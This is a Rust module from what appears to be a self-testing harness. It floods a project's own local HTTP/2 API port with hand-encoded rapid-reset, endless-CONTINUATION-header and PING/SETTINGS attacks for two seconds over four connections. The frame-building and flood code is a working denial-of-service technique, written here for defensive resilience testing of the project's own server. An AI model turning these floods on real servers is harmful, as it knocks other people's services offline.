//! Strangers that speak HTTP/2 to the port of the API: streams that are reset as soon as they are
//! opened, heads without end, frames that ask for answers. Written by hand, from RFC 9113 and RFC
//! 7541.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::pki_types::CertificateDer;
use rustls::pki_types::pem::PemObject;
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};

use crate::arena::{Arena, Port};
use crate::attack::Attack;

/// Length of a flood.
const FLOOD: Duration = Duration::from_secs(2);
/// Connections of a flood.
const CROWD: usize = 4;
/// Frames written at once.
const BATCH: u32 = 100;

/// Types of frames, and flags.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new(
        "http2-rapid-reset",
        "4 connections open and reset streams for two seconds",
        |arena| {
            flood(arena, |first| {
                let streams = (0..BATCH).map(|number| first + 2 * number);
                streams.flat_map(|stream| [request(stream), reset(stream)].concat()).collect()
            });
        },
    )
    .quick(),
    Attack::new("http2-endless-head", "4 connections send a head that has no end", |arena| {
        flood(arena, |first| {
            let piece = field("x-endless", &[b'a'; 1_000]);
            let more = frame(CONTINUATION, 0, 1, &piece).repeat(20);
            match first {
                1 => [frame(HEADERS, END_STREAM, 1, &head()), more].concat(),
                _ => more,
            }
        });
    }),
    Attack::new(
        "http2-pings-and-settings",
        "4 connections ask for answers and read none",
        |arena| {
            flood(arena, |_| {
                [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, b"")].concat().repeat(50)
            });
        },
    ),
];

/// Has each connection of a crowd send batches, given the number of its first stream, for the
/// length of a flood; one that is closed is made anew.
fn flood(arena: &mut Arena, batch: impl Fn(u32) -> Vec<u8> + Sync) {
    let config = config(arena);
    let address = arena.address(Port::Http);
    let sent: usize = std::thread::scope(|scope| {
        let crowd: Vec<_> = (0..CROWD)
            .map(|_| {
                scope.spawn(|| {
                    let began = Instant::now();
                    let mut sent = 0;
                    while began.elapsed() < FLOOD {
                        let Some(mut stream) = connect(&config, address) else { continue };
                        let mut first = 1;
                        while began.elapsed() < FLOOD {
                            let bytes = batch(first);
                            if stream.write_all(&bytes).is_err() {
                                break;
                            }
                            sent += bytes.len();
                            first += 2 * BATCH;
                        }
                    }
                    sent
                })
            })
            .collect();
        crowd.into_iter().map(|attacker| attacker.join().unwrap_or(0)).sum()
    });
    arena.at_least("KiB sent", sent / 1_024, 100);
}

fn config(arena: &Arena) -> Arc<ClientConfig> {
    let certificate = arena.server.data_dir().join("development.cert.pem");
    let mut roots = RootCertStore::empty();
    let certificate = CertificateDer::from_pem_file(certificate).expect("a certificate");
    roots.add(certificate).expect("a certificate");
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

/// A connection on which the server has spoken HTTP/2.
fn connect(
    config: &Arc<ClientConfig>,
    address: std::net::SocketAddr,
) -> Option<StreamOwned<ClientConnection, TcpStream>> {
    let socket = TcpStream::connect(address).ok()?;
    socket.set_read_timeout(Some(FLOOD)).ok()?;
    socket.set_write_timeout(Some(FLOOD / 4)).ok()?;
    let name = "localhost".try_into().ok()?;
    let connection = ClientConnection::new(Arc::clone(config), name).ok()?;
    let mut stream = StreamOwned::new(connection, socket);
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    stream.write_all(&[&preface[..], &frame(SETTINGS, 0, 0, b"")].concat()).ok()?;
    let mut head = [0; 9];
    stream.read_exact(&mut head).ok()?;
    (head[3] == SETTINGS).then_some(stream)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// GET / of https://localhost: three entries of the static table, and a literal.
fn head() -> Vec<u8> {
    [&[0x82, 0x87, 0x84, 0x41, 9][..], b"localhost"].concat()
}

fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head())
}

fn reset(stream: u32) -> Vec<u8> {
    // CANCEL
    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
}

/// A literal field that is not indexed, with a value of 127 to 16,510 bytes.
fn field(name: &str, value: &[u8]) -> Vec<u8> {
    let len = value.len() - 127;
    let len = [127, (len % 128 + 128) as u8, (len / 128) as u8];
    [&[0, name.len() as u8], name.as_bytes(), &len, value].concat()
}
